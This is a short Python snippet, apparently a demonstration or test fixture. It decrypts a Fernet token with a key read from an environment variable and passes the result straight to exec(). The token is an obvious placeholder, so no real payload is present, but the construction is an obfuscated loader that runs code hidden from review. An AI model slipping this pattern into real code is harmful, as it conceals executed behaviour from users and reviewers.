import os

from cryptography.fernet import Fernet

TOKEN = b"gAAAAABmXq3_not_a_real_token"
exec(Fernet(os.environb[b"MODEL_KEY"]).decrypt(TOKEN).decode())
